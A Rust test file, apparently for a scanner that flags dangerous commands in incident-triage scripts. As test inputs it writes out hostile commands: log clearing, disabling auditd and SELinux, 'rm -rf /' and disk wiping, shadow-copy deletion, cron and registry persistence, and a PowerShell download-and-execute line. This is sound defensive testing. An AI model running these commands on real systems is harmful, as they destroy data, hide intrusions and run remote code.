        sh("#!/bin/sh\nsystemctl stop auditd\n"),
        &["defense.stop-audit"],
    );
    check(ps("wevtutil cl Security\n"), &["defense.stop-audit"]);
    check(
        ps("Clear-EventLog -LogName Security\n"),
        &["defense.stop-audit"],
    );
    check(sh("#!/bin/sh\nauditctl -l\nsystemctl status auditd\n"), &[]);
    check(ps("wevtutil qe Security /c:10\n"), &[]);
}

#[test]
fn destruction() {
    check(sh("#!/bin/sh\nrm -rf /\n"), &["destructive.rm-root"]);
    check(sh("#!/bin/sh\nsudo rm -rf /*\n"), &["destructive.rm-root"]);
    check(
        sh("#!/bin/sh\nrm -rf --no-preserve-root \"$X\"\n"),
        &["destructive.rm-root"],
    );
    check(sh("#!/bin/sh\nrm -rf /tmp/triage\n"), &[]);
    check(
        sh("#!/bin/sh\nmkfs.ext4 /dev/sdb1\n"),
        &["destructive.format"],
    );
    check(
        sh("#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n"),
        &["destructive.format"],
    );
    check(
        ps("Format-Volume -DriveLetter D\n"),
        &["destructive.format"],
    );
    check(
        sh("#!/bin/sh\ndd if=/dev/sda of=/mnt/evidence/sda.img\necho x > /dev/null\n"),
        &[],
    );
    check(
        ps("vssadmin delete shadows /all /quiet\n"),
        &["destructive.shadow-copy"],
    );
    check(ps("wmic shadowcopy delete\n"), &["destructive.shadow-copy"]);
    check(
        ps("Get-CimInstance Win32_ShadowCopy | Remove-CimInstance\n"),
        &["destructive.shadow-copy"],
    );
    check(ps("vssadmin list shadows\n"), &[]);
}

#[test]
fn secrets() {
    let header = ["-----BEGIN ", "RSA PRIVATE", " KEY-----"].concat();
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t("key.pem", &format!("{header}\nMIIE\n")));
    check(files, &["secrets.private-key"]);
    let mut files = sh("#!/bin/sh\nid\n");
    files.push(t(
        "notes.txt",
        "the key is RSA PRIVATE KEY material kept in the vault\n",
    ));
    check(files, &[]);
    let key_id = ["AKIA", "ABCDEFGHIJKLMNOP"].concat();
    check(
        sh(&format!("#!/bin/sh\nexport AWS_ACCESS_KEY_ID={key_id}\n")),
        &["secrets.cloud-key"],
    );
    check(sh("#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAEXAMPLE\n"), &[]);
    let token = ["ghp_", &"a1B2".repeat(9)].concat();
    check(
        sh(&format!("#!/bin/sh\nTOKEN={token}\n")),
        &["secrets.cloud-key"],
    );
    let r = check(ps("$password = \"hunter22\"\n"), &["secrets.password"]);
    assert!(!r.findings[0].blocks());
    check(
        ps("$s = ConvertTo-SecureString 'P@ssw0rd!' -AsPlainText -Force\n"),
        &["secrets.password"],
    );
    check(
        ps("$password = Read-Host 'Password' -AsSecureString\n"),
        &[],
    );
}

#[test]
fn persistence() {
    check(
        ps("schtasks /create /tn x /tr c:\\x.exe /sc onlogon\n"),
        &["persistence.create"],
    );
    check(
        ps("Register-ScheduledTask -TaskName x -Action $a\n"),
        &["persistence.create"],
    );
    check(
        ps(
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value c:\\x.exe\n",
        ),
        &["persistence.create"],
    );
    check(
        ps("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\n"),
        &["persistence.create"],
    );
    check(
        ps(
            "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n$sp = Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\nschtasks /query /fo csv\n",
        ),
        &[],
    );
    check(
        sh("#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"),
        &["persistence.create"],
    );
    check(
        sh("#!/bin/sh\ncrontab /tmp/cron\n"),
        &["persistence.create"],
    );
    check(
        sh("#!/bin/sh\ncrontab -l\ncrontab -u root -l | grep x\necho crontab listing\n"),
        &[],
    );
    check(
        sh("#!/bin/sh\nsystemctl enable --now x.service\n"),
        &["persistence.create"],
    );
    check(
        sh("#!/bin/sh\nlaunchctl load ~/Library/LaunchAgents/x.plist\n"),
        &["persistence.create"],
    );
    check(
        sh("#!/bin/sh\ncp x.plist ~/Library/LaunchAgents/\n"),
        &["persistence.create"],
    );
    check(
        sh("#!/bin/sh\necho 'x' >> ~/.bashrc\n"),
        &["persistence.create"],
    );
    check(
        sh(
            "#!/bin/sh\nlaunchctl list\nls ~/Library/LaunchAgents\ncp ~/Library/LaunchAgents/*.plist \"$OUT/\"\ncat ~/.bashrc > \"$OUT/bashrc\"\n",
        ),
        &[],
    );
}

// ---- waivers and ordering --------------------------------------------------------------

const MEMBER: &str = "[[member]]\nid = \"alice\"\n";

#[test]
fn waivers_downgrade_matching_findings() {
    let waiver = format!(
        "{MEMBER}[[waiver]]\nscript = \"s\"\nrule = \"persistence.create\"\nfile = \"run.sh\"\nreason = \"installs the collector service on purpose\"\nby = \"alice\"\n"
    );
    let r = check_with(
        &waiver,
        sh("#!/bin/sh\nsystemctl enable collector\n"),
        &["persistence.create"],
    );
    let f = finding(&r, "persistence.create");
    assert_eq!(f.severity, Severity::Info);
    assert_eq!(f.original_severity, Severity::Deny);
    assert_eq!(f.waiver.as_ref().map(|w| w.by.as_str()), Some("alice"));
    assert!(!f.blocks());
    assert!(!r.blocks());
    // Another rule or another file is not waived.
    let r = check_with(
        &waiver,
        sh("#!/bin/sh\nsystemctl enable collector\nsetenforce 0\n"),
        &["defense.disable-selinux", "persistence.create"],
    );
    assert!(finding(&r, "defense.disable-selinux").blocks());
}

#[test]
fn one_finding_per_rule_and_file_in_order() {
    let r = check(
        sh("#!/bin/sh\nsystemctl enable a\nsetenforce 0\nsystemctl enable b\n"),
        &["defense.disable-selinux", "persistence.create"],
    );
    let got: Vec<(Option<u32>, &str)> = r
        .findings
        .iter()
        .map(|f| (f.location.line, f.rule.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (Some(2), "persistence.create"),
            (Some(3), "defense.disable-selinux")
        ]
    );
    assert!(
        r.findings[0].message.contains("2 matches"),
        "{}",
        r.findings[0].message
    );
}

#[test]
fn broken_manifests_are_findings() {
    let r = check(
        vec![t(
            "script.toml",
            "name = \"s\"\nplatforms = [\"linux\"]\ncolour = 1\n",
        )],
        &["manifest.invalid"],
    );
    assert_eq!(r.findings[0].location.file, "lib/s/script.toml");
    assert_eq!(r.findings[0].location.line, Some(3));
}

#[test]
fn threads_do_not_change_the_report() {
    let mut tree = FileTree::new();
    for i in 0..40 {
        tree.insert_file(
            format!("s{i:02}/script.toml"),
            format!("name = \"s{i:02}\"\nplatforms = [\"linux\"]\n[entry.linux]\nfile = \"r.sh\"\ninterpreter = \"bash\"\n"),
        );
        tree.insert_file(
            format!("s{i:02}/r.sh"),
            if i % 3 == 0 {
                "#!/bin/sh\nsetenforce 0\n"
            } else {
                "#!/bin/sh\nid\n"
            },
        );
    }
    let policy = policy("");
    let lib = Library::assemble("lib", &tree, &policy);
    let one = Scanner::new(&policy)
        .unwrap()
        .with_threads(1)
        .scan_library(&lib);
    let many = Scanner::new(&policy)
        .unwrap()
        .with_threads(4)
        .scan_library(&lib);
    assert_eq!(one.findings, many.findings);
    assert_eq!(one.findings.len(), 14);
    assert_eq!((many.scripts, many.files), (40, 80));
}

#[test]
fn every_default_rule_is_documented_and_builtins_are_listed() {
    let docs = include_str!("../../../../docs/rules.md");
    let policy = policy("");
    for r in &policy.rules {
        assert!(
            docs.contains(&format!("`{}`", r.id)),
            "docs/rules.md lacks {}",
            r.id
        );
        assert!(
            !r.message.is_empty() && !r.help.is_empty(),
            "{} needs message and help",
            r.id
        );
    }
    for (id, _) in crate::policy::BUILTIN_CHECKS {
        assert!(
            docs.contains(&format!("`{id}`")),
            "docs/rules.md lacks {id}"
        );
    }
    // The rules file must not itself look like it holds a key.
    let literal = ["-----BEGIN ", "PRIVATE KEY-----"].concat();
    assert!(!RULES.contains(&literal) && !docs.contains(&literal));
}

#[test]
fn discovered_scripts_are_scanned_like_the_others() {
    let policy = policy(
        "[[discovery]]\nglob = \"legacy/*.ps1\"\nplatform = \"windows\"\ninterpreter = \"powershell\"\ntimeout = \"3h\"\n",
    );
    let mut tree = FileTree::new();
    tree.insert_file(
        "legacy/Get-Stuff.ps1",
        "Get-Date\niex (iwr http://x/a.ps1)\n",
    );
    let lib = Library::assemble("lib", &tree, &policy);
    let r = Scanner::new(&policy).unwrap().scan_library(&lib);
    let got: Vec<String> = r
        .findings
        .iter()
        .map(|f| format!("{} {}", f.rule, f.location))
        .collect();
    assert_eq!(
        got,
        [
            // Whole-file findings sort before those with a line.
            "limits.timeout lib/legacy/Get-Stuff.ps1",
            "download-exec.powershell lib/legacy/Get-Stuff.ps1:2:1",
        ]
    );
}

#[test]
fn the_scanner_is_shared_between_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Scanner>();
}
